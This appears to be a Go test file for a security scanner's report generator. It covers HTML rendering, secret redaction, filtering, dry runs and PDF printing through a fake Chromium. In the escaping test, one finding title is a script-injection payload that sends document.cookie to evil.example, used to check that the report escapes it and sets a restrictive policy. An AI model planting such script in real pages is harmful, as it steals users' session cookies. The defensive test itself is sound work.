package report

import (
	"bytes"
	"context"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/draconsec/dracon/internal/config"
	"github.com/draconsec/dracon/internal/consumers"
	"github.com/draconsec/dracon/internal/consumers/consumertest"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// reportConfig is the report block of a dracon.yaml with these lines,
// read as a run reads it.
func reportConfig(lines ...string) *config.Report {
	y := "consumers:\n  report:\n    enabled: true\n"
	for _, l := range lines {
		y += "    " + l + "\n"
	}
	c, err := config.Parse([]byte(y), config.Names{Resolve: func(s string) (string, bool) { return s, true }})
	if err != nil {
		panic(err)
	}
	return c.Consumers.Report
}

// newConsumer is a report consumer writing into a fresh folder, at the
// fixed generation time, in an environment with no PATH (no browser)
// unless env says otherwise.
func newConsumer(t *testing.T, cfg *config.Report, log *bytes.Buffer) *Consumer {
	t.Helper()
	var w io.Writer = io.Discard
	if log != nil {
		w = log
	}
	c, err := New(cfg, consumertest.Env(t, nil, w))
	if err != nil {
		t.Fatal(err)
	}
	c.Dir, c.Now = t.TempDir(), func() time.Time { return generated }
	return c
}

// publish runs the framework's part (the filter) and the consumer's.
func publish(t *testing.T, c *Consumer, run *consumers.Run) consumers.Delivery {
	t.Helper()
	d, err := c.Publish(context.Background(), run, consumers.Select(consumers.Flatten(run.Results), c.filter))
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test -update writes it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from what the consumer writes; go test -update rewrites it, then review the diff", path)
	}
}

func TestGolden(t *testing.T) {
	for _, tc := range []struct {
		name       string
		run        *consumers.Run
		exceptions []config.Exception
	}{
		{"run.golden.html", consumertest.Run(t), nil},
		{"audit.golden.html", auditRun(t), auditExceptions},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := newConsumer(t, reportConfig(), nil)
			c.Exceptions = tc.exceptions
			if d := publish(t, c, tc.run); d.Created != 1 {
				t.Errorf("delivery %+v, want one file created", d)
			}
			got, err := os.ReadFile(c.HTMLPath())
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tc.name, got)
		})
	}
}

// fakeBrowser is a stand-in for Chromium on the consumer's PATH: it
// records each command line in calls, and prints a PDF where
// --print-to-pdf says, as Chromium does. A file fail-next makes its next
// run fail as a browser does (noise, then the reason, a non-zero exit);
// a file hang makes it hang.
type fakeBrowser struct{ dir, path string }

func newFakeBrowser(t *testing.T) *fakeBrowser {
	t.Helper()
	dir := t.TempDir()
	b := &fakeBrowser{dir: dir, path: filepath.Join(dir, "chromium")}
	script := `#!/bin/sh
dir=$(dirname "$0")
printf '%s\n' "$*" >> "$dir/calls"
if [ -e "$dir/fail-next" ]; then
  rm "$dir/fail-next"
  echo "[1:2:ERROR:dbus/bus.cc:405] Failed to connect to the bus" >&2
  echo "[1:2:FATAL:process_singleton_posix.cc] the profile appears to be in use" >&2
  exit 21
fi
if [ -e "$dir/hang" ]; then exec sleep 60; fi
for a in "$@"; do
  case "$a" in --print-to-pdf=*) printf '%%PDF-1.4\n%% printed by a fake browser\n' > "${a#--print-to-pdf=}";; esac
done
`
	if err := os.WriteFile(b.path, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return b
}

func (b *fakeBrowser) calls(t *testing.T) []string {
	data, err := os.ReadFile(filepath.Join(b.dir, "calls"))
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSpace(string(data)), "\n")
}

func (b *fakeBrowser) touch(t *testing.T, name string) {
	if err := os.WriteFile(filepath.Join(b.dir, name), nil, 0o644); err != nil {
		t.Fatal(err)
	}
}

// withBrowser is a consumer whose environment's PATH holds only the fake
// browser.
func withBrowser(t *testing.T, b *fakeBrowser, cfg *config.Report, log *bytes.Buffer) *Consumer {
	t.Helper()
	var w io.Writer = io.Discard
	if log != nil {
		w = log
	}
	c, err := New(cfg, consumertest.Env(t, map[string]string{"PATH": b.dir}, w))
	if err != nil {
		t.Fatal(err)
	}
	c.Dir, c.Now = t.TempDir(), func() time.Time { return generated }
	return c
}

// files lists a folder's files: what a run left there.
func files(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, rel)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestString(t *testing.T) {
	if got := newConsumer(t, reportConfig(), nil).String(); got != "report" {
		t.Errorf("String() = %q, want the config key report", got)
	}
}

func TestNewRefusesAPathABrowserWouldNotOpenAsHTML(t *testing.T) {
	// The registry may build a Report without the config's checks.
	_, err := New(&config.Report{Path: "report.txt"}, consumertest.Env(t, nil, nil))
	if err == nil || !strings.Contains(err.Error(), "consumers.report.path") {
		t.Errorf("error %v does not name consumers.report.path", err)
	}
}

// TestNoSecrets: the report lists gitleaks' findings, descriptions
// included, and must carry none of the secret values they found, in the
// HTML, the log or a dry run's output.
func TestNoSecrets(t *testing.T) {
	secrets := consumertest.Secrets(t)
	for _, run := range []*consumers.Run{consumertest.Run(t), auditRun(t)} {
		var log, dry bytes.Buffer
		c := newConsumer(t, reportConfig("filter: {suppressed: true}"), &log)
		publish(t, c, run)
		html, err := os.ReadFile(c.HTMLPath())
		if err != nil {
			t.Fatal(err)
		}
		run.DryRun = &dry
		publish(t, c, run)
		if !bytes.Contains(html, []byte("settings.py:3")) {
			t.Fatal("the report does not list gitleaks' findings: nothing was checked")
		}
		for _, s := range secrets {
			for name, b := range map[string][]byte{"report": html, "log": log.Bytes(), "dry run": dry.Bytes()} {
				if bytes.Contains(b, []byte(s)) {
					t.Errorf("the %s carries the secret value %q…", name, s[:4])
				}
			}
		}
	}
}

// TestEscapesFindingText: a finding's title is the scanned code's text.
// Rendered, it is text: no element, script or fetch of its own.
func TestEscapesFindingText(t *testing.T) {
	c := newConsumer(t, reportConfig(), nil)
	html, err := c.Render(auditRun(t), consumers.Flatten(auditRun(t).Results))
	if err != nil {
		t.Fatal(err)
	}
	s := string(html)
	for tag, want := range map[string]int{"<script": 0, "<img": 0, "<link": 0, "<iframe": 0, "<style": 1, "url(": 0, "@import": 0} {
		if n := strings.Count(strings.ToLower(s), tag); n != want {
			t.Errorf("%d %q in the report, want %d", n, tag, want)
		}
	}
	// The report's own tables, each closed once: policies, producers,
	// by team, by tool, findings, suppressed, fixed, scan tags.
	if open, closed := strings.Count(s, "<table"), strings.Count(s, "</table>"); open != 8 || closed != 8 {
		t.Errorf("%d tables opened and %d closed, want the report's 8", open, closed)
	}
	if want := `Hardcoded key &lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;fetch(&#34;https://evil.example/x?&#34;&#43;document.cookie)&lt;/script&gt;`; !strings.Contains(s, want) {
		t.Errorf("the hostile title is not shown as escaped text %q", want)
	}
	if !strings.Contains(s, `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`) {
		t.Error("no Content-Security-Policy: a browser would fetch what slipped through")
	}
}

// TestShows checks what a reader is told, section by section, on the
// audit run.
func TestShows(t *testing.T) {
	c := newConsumer(t, reportConfig(), nil)
	c.Exceptions = auditExceptions
	run := auditRun(t)
	html, err := c.Render(run, consumers.Select(consumers.Flatten(run.Results), c.filter))
	if err != nil {
		t.Fatal(err)
	}
	s := string(html)
	for _, want := range []string{
		`<div class="verdict v-fail">`, `<div class="word">failed</div>`, `exit code 2`,
		`<li>producer semgrep failed: exit status 2: invalid rule file .semgrep.yml</li>`,
		`<dt>Commit</dt><dd class="mono">0123456789abcdef0123456789abcdef01234567</dd>`,
		`<dt>Scan id</dt><dd class="mono">7f9c2a9e-0d2c-4c36-9a47-3d6f0b1f6e11</dd>`,
		`<dt>Started</dt><dd>2026-12-01 10:00:00 UTC</dd>`, `<dt>Finished</dt><dd>2026-12-01 10:00:42 UTC (42s)</dd>`,
		`<dt>Dracon</dt><dd>test</dd>`, `<dt>Generated</dt><dd>2026-12-01 10:05:00 UTC</dd>`,
		// Policies: which, from where, what they said.
		`Read from <b>main@fedcba9876543210fedcba9876543210fedcba98</b>`,
		`<td class="mono">dracon.builtin.secrets</td><td>finding</td><td class="mono">builtin:default/secrets.rego</td><td>v1</td><td class="mono">0a1b2c3d4e5f</td>`,
		`<h3>Denied (2)</h3>`, `<h3>Warnings (1)</h3>`, `<li class="mono">f0017 gitleaks aws-access-token settings.py:3</li>`,
		`acme.licences: syft f0018: licence list is not an array`,
		// Exceptions, one expired by the report's date.
		`<td class="mono">rule G104, path legacy/**</td><td>@acme/platform</td>`, `<span class="inforce">in force</span>`,
		`<td class="mono">2026-06-30</td><td><span class="expired">expired</span>`,
		// Producers: failed, skipped with the reason, versions, counts.
		`<tr><td><b>semgrep</b></td><td><span class="badge failed">failed</span></td><td class="mono">1.140.0</td><td class="n">3.4 s</td><td class="n">0</td><td>exit status 2: invalid rule file .semgrep.yml</td></tr>`,
		`<tr><td><b>bandit</b></td><td><span class="badge skipped">skipped</span></td><td class="mono">–</td><td class="n">–</td><td class="n">0</td><td>no Python files</td></tr>`,
		`12 vendored or generated files left out, 3 findings in them dropped`,
		// Counts: merged duplicate counted once; fixed from the run.
		`<b>17</b><span>findings</span>`, `<b>1</b><span>merged duplicates</span>`, `<b>1</b><span>fixed</span>`,
		// Findings: the merged token shows both tools; policy and status.
		`<tr class="f"><td class="id">f0015</td><td><span class="sv crit">Critical</span></td><td>trivy, gitleaks</td><td class="mono">github-pat</td><td class="mono">deploy.env:2</td>`,
		`<td class="new">new</td><td>@acme/platform</td><td class="p-deny">deny</td></tr>`,
		// Suppressed apart, with the reason, or that none was given.
		`<td>accepted risk</td><td>the command is a constant list of git arguments (SEC-1234)</td></tr>`,
		`<td>false positive</td><td>(no reason recorded)</td></tr>`,
		`<td class="id">f9999</td><td><span class="sv low">Low</span></td><td>gosec</td><td class="mono">G104</td><td class="mono">old.go</td><td>Errors unhandled</td>`,
		`content:"Dracon scan report · acme\2fshop · scan 7f9c2a9e-0d2c-4c36-9a47-3d6f0b1f6e11"`,
	} {
		if !strings.Contains(s, want) {
			t.Errorf("the report does not show %s", want)
		}
	}
	// Every finding is in one table: 15 listed, 2 suppressed, the merged
	// duplicate in neither.
	if n, sup := strings.Count(s, `<tr class="f">`), strings.Count(s, `<tr class="f sup">`); n != 15 || sup != 2 {
		t.Errorf("%d findings and %d suppressed listed, want 15 and 2", n, sup)
	}
	if strings.Contains(s, `<td class="id">f0016</td>`) {
		t.Error("the merged duplicate f0016 is listed")
	}
	// The matrices add up to the counts.
	if !strings.Contains(s, `<tr class="sum"><td>All</td><td class="n">1</td><td class="n">7</td><td class="n">5</td><td class="n">3</td><td class="n">1</td><td class="n">17</td>`) {
		t.Error("the by-tool table's sum is not the run's counts by severity")
	}
}

func TestVerdictPassed(t *testing.T) {
	run := consumertest.Run(t)
	run.Summary.Verdict, run.Summary.Reasons, run.Summary.ExitCode = "passed", nil, 0
	html, err := newConsumer(t, reportConfig(), nil).Render(run, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`<div class="verdict v-pass">`, `<div class="word">PASSED</div>`, "exit code 0", "No policy denied, no producer failed.", "<p>No finding.</p>"} {
		if !bytes.Contains(html, []byte(want)) {
			t.Errorf("a passed run's report does not show %s", want)
		}
	}
}

// TestWithoutSummary: dracon consume hands results alone: no verdict to
// show, counts from the results.
func TestWithoutSummary(t *testing.T) {
	run := consumertest.Run(t)
	run.Summary = nil
	html, err := newConsumer(t, reportConfig(), nil).Render(run, consumers.Flatten(run.Results))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"NO VERDICT", "consumed on their own", "<b>18</b><span>findings</span>", "<b>1</b><span>fixed</span>",
		`<tr><td><b>trivy</b></td><td><span class="badge ok">ok</span></td><td class="mono">dev</td>`} {
		if !bytes.Contains(html, []byte(want)) {
			t.Errorf("the report without a summary does not show %s", want)
		}
	}
	if bytes.Contains(html, []byte("exit code")) {
		t.Error("an exit code is shown for a run that had none")
	}
}

// TestFilter: the findings table lists what the filter kept; the
// suppressed list keeps to the filter's other criteria.
func TestFilter(t *testing.T) {
	c := newConsumer(t, reportConfig("filter: {min_severity: high, tools: [trivy]}"), nil)
	publish(t, c, auditRun(t))
	html, err := os.ReadFile(c.HTMLPath())
	if err != nil {
		t.Fatal(err)
	}
	s := string(html)
	// trivy's high and critical: 7 in the run, less the false positive.
	if n := strings.Count(s, `<tr class="f">`); n != 6 {
		t.Errorf("%d findings listed, want trivy's 6 high and critical ones", n)
	}
	if !strings.Contains(s, `<td class="id">f0008</td>`) || strings.Contains(s, `<td class="id">f0002</td>`) {
		t.Error("the suppressed list does not keep to the filter: trivy's false positive in, gosec's accepted risk out")
	}
	if !strings.Contains(s, "The report's filter (severity high or above; tools trivy) kept these findings of the run's 17.") {
		t.Error("the report does not say what its filter kept")
	}
	// The counts are the run's, whatever the filter.
	if !strings.Contains(s, "<b>17</b><span>findings</span>") {
		t.Error("the counts are not the whole run's")
	}
}

// TestDelivery: the report is one file, created, then replaced, or left
// as it is when it would be the same.
func TestDelivery(t *testing.T) {
	c := newConsumer(t, reportConfig("path: audit/scan.html"), nil)
	run := consumertest.Run(t)
	if d := publish(t, c, run); d.Created != 1 || d.Updated+d.Unchanged+d.Failed != 0 {
		t.Errorf("first run: %+v, want one created", d)
	}
	if want := filepath.Join(c.Dir, "audit", "scan.html"); c.HTMLPath() != want {
		t.Errorf("written to %s, want %s (path is relative to --out)", c.HTMLPath(), want)
	}
	if d := publish(t, c, consumertest.Run(t)); d.Unchanged != 1 || d.Created+d.Updated+d.Failed != 0 {
		t.Errorf("the same run again: %+v, want one unchanged", d)
	}
	c.Now = func() time.Time { return generated.Add(time.Hour) }
	if d := publish(t, c, consumertest.Run(t)); d.Updated != 1 || d.Created+d.Unchanged+d.Failed != 0 {
		t.Errorf("a later run: %+v, want one updated", d)
	}
	// One report, nothing half-written beside it.
	if got := files(t, c.Dir); strings.Join(got, " ") != filepath.Join("audit", "scan.html") {
		t.Errorf("files left: %q", got)
	}
	if fi, err := os.Stat(c.HTMLPath()); err != nil || fi.Mode().Perm() != 0o644 {
		t.Errorf("report file: %v %v, want readable by all (0644)", fi.Mode(), err)
	}
}

// TestRelativeToOut: the run's output folder comes with the environment.
func TestRelativeToOut(t *testing.T) {
	env := consumertest.Env(t, nil, nil)
	env.Out = t.TempDir()
	c, err := New(reportConfig("path: audit/scan.html", "pdf: true"), env)
	if err != nil {
		t.Fatal(err)
	}
	if want := filepath.Join(env.Out, "audit", "scan.html"); c.HTMLPath() != want {
		t.Errorf("HTML at %s, want %s", c.HTMLPath(), want)
	}
	if want := filepath.Join(env.Out, "audit", "scan.pdf"); c.PDFPath() != want {
		t.Errorf("PDF at %s, want %s (beside the HTML)", c.PDFPath(), want)
	}
}

func TestAbsolutePath(t *testing.T) {
	abs := filepath.Join(t.TempDir(), "evidence.html")
	c := newConsumer(t, reportConfig("path: "+abs), nil)
	publish(t, c, consumertest.Run(t))
	if _, err := os.Stat(abs); err != nil {
		t.Errorf("an absolute path is not taken as it is: %v", err)
	}
}

// TestUnwritable: a report not written is the delivery failed.
func TestUnwritable(t *testing.T) {
	c := newConsumer(t, reportConfig(), nil)
	if err := os.WriteFile(filepath.Join(c.Dir, "out"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	c.Dir = filepath.Join(c.Dir, "out") // a file, not a folder
	run := consumertest.Run(t)
	if _, err := c.Publish(context.Background(), run, consumers.Flatten(run.Results)); err == nil || !strings.Contains(err.Error(), "report: ") {
		t.Errorf("error %v, want the report's write error", err)
	}
}

func TestDryRun(t *testing.T) {
	b := newFakeBrowser(t)
	c := withBrowser(t, b, reportConfig("pdf: true"), nil)
	var dry bytes.Buffer
	run := auditRun(t)
	run.DryRun = &dry
	d := publish(t, c, run)
	if d.Created != 2 {
		t.Errorf("dry run: %+v, want the two files it would create", d)
	}
	if got := files(t, c.Dir); len(got) != 0 {
		t.Errorf("a dry run wrote %q", got)
	}
	if calls := b.calls(t); len(calls) != 0 {
		t.Errorf("a dry run ran the browser: %q", calls)
	}
	out := dry.String()
	for _, want := range []string{
		"report: would create " + c.HTMLPath() + " (",
		"  scan 7f9c2a9e-0d2c-4c36-9a47-3d6f0b1f6e11 of acme/shop refs/heads/main at 0123456789abcdef0123456789abcdef01234567, 2026-12-01 10:00:00 UTC to 2026-12-01 10:00:42 UTC\n",
		"  verdict: failed (exit code 2)\n    - settings.py:3 holds an AWS access key",
		"  policies: 3 evaluated (main@fedcba9876543210fedcba9876543210fedcba98): 2 deny, 1 warn\n",
		"  producers: bandit skipped (0), gitleaks ok (2), gosec ok (4), semgrep failed (0), syft ok (1), trivy ok (11)\n",
		"  counts: 17 total, 9 new, 8 existing, 0 outside diff, 1 fixed, 1 suppressed\n",
		"  listed: 15 findings, 2 suppressed apart, 1 fixed\n",
		"report: would create " + c.PDFPath() + ", printed with " + b.path + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("dry run output does not say %q:\n%s", want, out)
		}
	}
	// With the report there already, a dry run of the same run would
	// leave it as it is; a later one would replace it.
	run.DryRun = nil
	publish(t, c, run)
	dry.Reset()
	run.DryRun = &dry
	if d := publish(t, c, run); d.Unchanged != 2 || d.Created+d.Updated != 0 {
		t.Errorf("dry run of the same run: %+v, want two it would leave as they are", d)
	}
	if !strings.Contains(dry.String(), "report: would leave as it is "+c.HTMLPath()) || !strings.Contains(dry.String(), "report: would leave as it is "+c.PDFPath()) {
		t.Errorf("dry run output:\n%s", dry.String())
	}
	dry.Reset()
	c.Now = func() time.Time { return generated.Add(time.Minute) }
	if d := publish(t, c, run); d.Updated != 2 || d.Created+d.Unchanged != 0 {
		t.Errorf("dry run over an older report: %+v, want two it would replace", d)
	}
	if !strings.Contains(dry.String(), "report: would replace "+c.HTMLPath()) || !strings.Contains(dry.String(), "report: would replace "+c.PDFPath()) {
		t.Errorf("dry run output:\n%s", dry.String())
	}
	if n := len(b.calls(t)); n != 1 {
		t.Errorf("browser run %d times: once by the real run, never by a dry run", n)
	}
}

// TestDryRunWithoutBrowser: a dry run with no browser says so, and
// fails as the run would when the PDF is required.
func TestDryRunWithoutBrowser(t *testing.T) {
	for _, tc := range []struct {
		pdf    string
		failed int
		says   string
	}{
		{"pdf: true", 0, "report: would write no PDF: no headless browser found"},
		{"pdf: required", 1, "report: would fail to print"},
	} {
		var dry bytes.Buffer
		c := newConsumer(t, reportConfig(tc.pdf), nil)
		run := consumertest.Run(t)
		run.DryRun = &dry
		if d := publish(t, c, run); d.Failed != tc.failed || d.Created != 1 {
			t.Errorf("%s: dry run %+v", tc.pdf, d)
		}
		if !strings.Contains(dry.String(), tc.says) {
			t.Errorf("%s: dry run output does not say %q:\n%s", tc.pdf, tc.says, dry.String())
		}
	}
}

// TestPDF: the browser is run headless on the written report, in a
// profile of its own, and its PDF counted as a file of the delivery.
func TestPDF(t *testing.T) {
	b := newFakeBrowser(t)
	var log bytes.Buffer
	c := withBrowser(t, b, reportConfig("path: out dir/report.html", "pdf: {path: evidence/scan.pdf}"), &log)
	run := consumertest.Run(t)
	if d := publish(t, c, run); d.Created != 2 || d.Failed != 0 {
		t.Fatalf("delivery %+v, want the HTML and the PDF created (%v)", d, d.Errors)
	}
	pdf, err := os.ReadFile(filepath.Join(c.Dir, "evidence", "scan.pdf"))
	if err != nil || !bytes.HasPrefix(pdf, []byte("%PDF-")) {
		t.Fatalf("no PDF at pdf.path: %v", err)
	}
	calls := b.calls(t)
	if len(calls) != 1 {
		t.Fatalf("browser run %d times, want once", len(calls))
	}
	args := strings.Fields(calls[0])
	for _, want := range []string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-pdf-header-footer"} {
		if !slicesContains(args, want) {
			t.Errorf("browser not run with %s: %q", want, calls[0])
		}
	}
	// The report's address, its space escaped, is the last argument.
	if want := "file://" + strings.ReplaceAll(c.HTMLPath(), " ", "%20"); !strings.HasSuffix(calls[0], want) {
		t.Errorf("browser not pointed at %s: %q", want, calls[0])
	}
	// Its profile is removed afterwards.
	for _, a := range args {
		if dir, ok := strings.CutPrefix(a, "--user-data-dir="); ok {
			if _, err := os.Stat(dir); !os.IsNotExist(err) {
				t.Errorf("the browser's profile %s is left behind", dir)
			}
		}
	}
	if !strings.Contains(log.String(), "dracon: report: "+c.PDFPath()+" (printed with "+b.path+")") {
		t.Errorf("log: %s", log.String())
	}
	// The same run again: both files as they were; the browser not run.
	if d := publish(t, c, consumertest.Run(t)); d.Unchanged != 2 || d.Created+d.Updated+d.Failed != 0 {
		t.Errorf("the same run again: %+v, want both unchanged", d)
	}
	if n := len(b.calls(t)); n != 1 {
		t.Errorf("browser run %d times for an unchanged report, want once in all", n)
	}
	c.Now = func() time.Time { return generated.Add(time.Minute) }
	if d := publish(t, c, consumertest.Run(t)); d.Updated != 2 || d.Created+d.Unchanged+d.Failed != 0 {
		t.Errorf("a later run: %+v, want both updated", d)
	}
}

// TestPDFFailsThenRetried: a print that fails is one failed file, with
// the browser's reason, the HTML still written and no half file left; a
// re-run prints the PDF and makes nothing twice.
func TestPDFFailsThenRetried(t *testing.T) {
	b := newFakeBrowser(t)
	b.touch(t, "fail-next")
	c := withBrowser(t, b, reportConfig("pdf: true"), nil)
	d := publish(t, c, consumertest.Run(t))
	if d.Created != 1 || d.Failed != 1 || len(d.Errors) != 1 {
		t.Fatalf("delivery %+v, want the HTML created and the PDF failed", d)
	}
	if e := d.Errors[0]; !strings.Contains(e, "chromium exited with code 21") || !strings.Contains(e, "the profile appears to be in use") || strings.Contains(e, "dbus") {
		t.Errorf("error %q does not give the browser's reason (without its noise)", e)
	}
	if got := strings.Join(files(t, c.Dir), " "); got != "dracon-report.html" {
		t.Errorf("files after a failed print: %q, want the HTML alone", got)
	}
	d = publish(t, c, consumertest.Run(t))
	if d.Unchanged != 1 || d.Created != 1 || d.Failed+d.Updated != 0 {
		t.Errorf("re-run: %+v, want the HTML unchanged and the PDF created", d)
	}
	if got := strings.Join(files(t, c.Dir), " "); got != "dracon-report.html dracon-report.pdf" {
		t.Errorf("files after the re-run: %q", got)
	}
}

// TestPDFTimeout: a browser that hangs is stopped at the delivery's
// deadline; the HTML is delivered, the PDF failed.
func TestPDFTimeout(t *testing.T) {
	b := newFakeBrowser(t)
	b.touch(t, "hang")
	c := withBrowser(t, b, reportConfig("pdf: true"), nil)
	run := consumertest.Run(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	start := time.Now()
	d, err := c.Publish(ctx, run, consumers.Flatten(run.Results))
	if err != nil {
		t.Fatal(err)
	}
	if took := time.Since(start); took > 15*time.Second {
		t.Errorf("the hung browser held the delivery %s", took)
	}
	if d.Created != 1 || d.Failed != 1 || !strings.Contains(strings.Join(d.Errors, " "), "timed out") {
		t.Errorf("delivery %+v, want the HTML created and the PDF timed out", d)
	}
}

// TestNoBrowser: with no browser, pdf: true notes it in the log and
// delivers the HTML; pdf: required makes it a failed file.
func TestNoBrowser(t *testing.T) {
	for _, tc := range []struct {
		lines  []string
		failed int
		says   string
	}{
		{[]string{"pdf: true"}, 0, "apt-get install chromium"},
		{[]string{"pdf: required"}, 1, "apt-get install chromium"},
		{[]string{"pdf: required", "browser: /nonexistent/chrome"}, 1, `consumers.report.browser "/nonexistent/chrome" is not an executable file`},
	} {
		var log bytes.Buffer
		c := newConsumer(t, reportConfig(tc.lines...), &log) // no PATH
		d := publish(t, c, consumertest.Run(t))
		if d.Created != 1 || d.Failed != tc.failed {
			t.Errorf("%q: delivery %+v", tc.lines, d)
		}
		where := log.String()
		if tc.failed > 0 {
			where = strings.Join(d.Errors, "\n")
		}
		if !strings.Contains(where, tc.says) {
			t.Errorf("%q: %q does not say %q", tc.lines, where, tc.says)
		}
	}
}

func slicesContains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// TestLargeRun: a 10,000-finding run's report lists every finding, in
// rows compact enough to keep the file a few megabytes (the benchmark
// BenchmarkRender10000 measures its time).
func TestLargeRun(t *testing.T) {
	run := largeRun(t, 10000)
	findings := consumers.Select(consumers.Flatten(run.Results), config.Filter{})
	html, err := newConsumer(t, reportConfig(), nil).Render(run, findings)
	if err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(html, []byte(`<tr class="f">`)); n != len(findings) || n < 9900 {
		t.Errorf("%d rows for %d findings", n, len(findings))
	}
	// In tables of rowsPerTable, for the browser's sake; and the fixed
	// finding's.
	if n, want := bytes.Count(html, []byte(`<table class="findings">`)), (len(findings)+rowsPerTable-1)/rowsPerTable+1; n != want {
		t.Errorf("%d finding tables, want %d", n, want)
	}
	if len(html) > 6<<20 {
		t.Errorf("%d bytes for %d findings: rows are not compact", len(html), len(findings))
	}
	t.Logf("%d findings: %d bytes (%d a row)", len(findings), len(html), len(html)/len(findings))
}

// TestPDFRelativePath: --out . (a relative output folder, the default)
// prints the PDF where the HTML is, not into the browser's profile folder.
func TestPDFRelativePath(t *testing.T) {
	b := newFakeBrowser(t)
	dir := t.TempDir()
	t.Chdir(dir)
	if err := os.WriteFile("r.html", []byte("<html></html>"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := printToPDF(context.Background(), b.path, "r.html", "r.pdf"); err != nil {
		t.Fatal(err)
	}
	if pdf, err := os.ReadFile(filepath.Join(dir, "r.pdf")); err != nil || !strings.HasPrefix(string(pdf), "%PDF-") {
		t.Errorf("r.pdf: %v %q", err, pdf)
	}
}
